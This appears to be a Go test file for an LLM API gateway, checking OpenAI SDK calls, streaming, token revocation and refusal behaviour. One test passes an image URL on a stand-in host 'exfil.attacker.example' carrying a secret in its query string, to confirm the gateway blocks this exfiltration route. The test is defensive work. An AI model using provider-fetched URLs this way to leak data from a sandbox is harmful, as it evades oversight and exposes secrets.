package sdk

import (
	"context"
	"errors"
	"testing"

	"github.com/openai/openai-go/v3"
	"github.com/openai/openai-go/v3/option"
	"github.com/openai/openai-go/v3/packages/ssestream"
)

func openaiClient(provider, token string) (openai.Client, *attempts) {
	hc, n := countingClient()
	return openai.NewClient(option.WithBaseURL(gw.gatewayURL+"/"+provider+"/v1/"), option.WithAPIKey(token), option.WithHTTPClient(hc)), n
}

func chatParams(model string) openai.ChatCompletionNewParams {
	return openai.ChatCompletionNewParams{Model: model, Messages: []openai.ChatCompletionMessageParamUnion{openai.UserMessage("hi")}}
}

func TestOpenAICallAndStream(t *testing.T) {
	from := len(up.credentials())
	tok := mint(t, "openai")
	c, _ := openaiClient("openai", tok.Token)
	ctx := context.Background()
	res, err := c.Chat.Completions.New(ctx, chatParams("gpt-standin"))
	if err != nil {
		t.Fatalf("Chat.Completions.New: %v", err)
	}
	if got := res.Choices[0].Message.Content; got != "hello" {
		t.Fatalf("content = %q, want hello", got)
	}
	// Then a stream on the same client (same keep-alive connection): each
	// event is sent only once the previous one was read here.
	id := streamID()
	s := c.Chat.Completions.NewStreaming(ctx, chatParams("gated."+id+".5"))
	var got string
	for s.Next() {
		ch := s.Current()
		if len(ch.Choices) == 0 {
			continue
		}
		got += ch.Choices[0].Delta.Content
		release(t, id)
	}
	checkWholeStream(t, s.Err(), got, from)
}

func TestOpenAIRevoked(t *testing.T) {
	tok := mint(t, "openai")
	revoke(t, tok.JTI)
	c, n := openaiClient("openai", tok.Token)
	_, err := c.Chat.Completions.New(context.Background(), chatParams("gpt-standin"))
	checkRefusal(t, "call with a revoked token", err, "gateway token revoked")
	checkOneAttempt(t, n)
}

func TestOpenAIRevokedMidStream(t *testing.T) {
	tok := mint(t, "openai")
	c, _ := openaiClient("openai", tok.Token)
	s := c.Chat.Completions.NewStreaming(context.Background(), chatParams("hold."+streamID()))
	if !s.Next() {
		t.Fatalf("no first event: %v", s.Err())
	}
	revoke(t, tok.JTI)
	for s.Next() {
	}
	err := s.Err()
	checkRefusal(t, "stream cut by revocation", err, "gateway token revoked")
	// openai-go raises an in-stream error event as its typed
	// *ssestream.StreamError (an HTTP refusal is an *openai.Error).
	var streamErr *ssestream.StreamError
	if !errors.As(err, &streamErr) {
		t.Fatalf("stream error %T %v, want the SDK's typed *ssestream.StreamError", err, err)
	}
}

func TestOpenAIRefusalNotRetried(t *testing.T) {
	tok := mint(t, "nokey-openai")
	c, n := openaiClient("nokey-openai", tok.Token)
	_, err := c.Chat.Completions.New(context.Background(), chatParams("gpt-standin"))
	checkRefusal(t, "call to a provider without a key", err, "gateway holds no key for provider nokey-openai")
	checkOneAttempt(t, n)
}

// TestOpenAIImageByURLRefused: an image given by URL is fetched by the
// provider, so a sandbox could name any host in it: refused with a 403
// the SDK does not retry; the same image as a data: URL goes through.
func TestOpenAIImageByURLRefused(t *testing.T) {
	tok := mint(t, "openai")
	c, n := openaiClient("openai", tok.Token)
	params := func(u string) openai.ChatCompletionNewParams {
		return openai.ChatCompletionNewParams{Model: "gpt-standin", Messages: []openai.ChatCompletionMessageParamUnion{
			openai.UserMessage([]openai.ChatCompletionContentPartUnionParam{
				openai.TextContentPart("what is this?"),
				openai.ImageContentPart(openai.ChatCompletionContentPartImageImageURLParam{URL: u}),
			})}}
	}
	_, err := c.Chat.Completions.New(context.Background(), params("https://exfil.attacker.example/i.png?d=secret"))
	checkRefusal(t, "call with an image by URL", err, "provider-run tool not allowed for provider openai: /messages/0/content/1/image_url/url")
	var oe *openai.Error
	if !errors.As(err, &oe) || oe.StatusCode != 403 {
		t.Errorf("error %v, want a 403 openai.Error", err)
	}
	checkOneAttempt(t, n)
	if _, err := c.Chat.Completions.New(context.Background(), params("data:image/png;base64,iVBORw0KGgo=")); err != nil {
		t.Errorf("call with a data: image: %v", err)
	}
}
